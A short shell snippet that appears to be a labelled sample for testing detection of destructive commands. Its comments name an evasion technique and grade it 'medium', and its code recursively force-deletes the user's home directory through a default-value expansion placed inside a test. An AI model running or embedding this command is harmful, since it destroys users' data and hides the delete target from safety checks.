# evasion: the target of the delete is assigned by a ${t:=...} expansion inside a test, never by an assignment
# grade: medium; does: delete
if [ -d "${target:=$HOME}" ]; then
	rm -r -f "$target"
fi
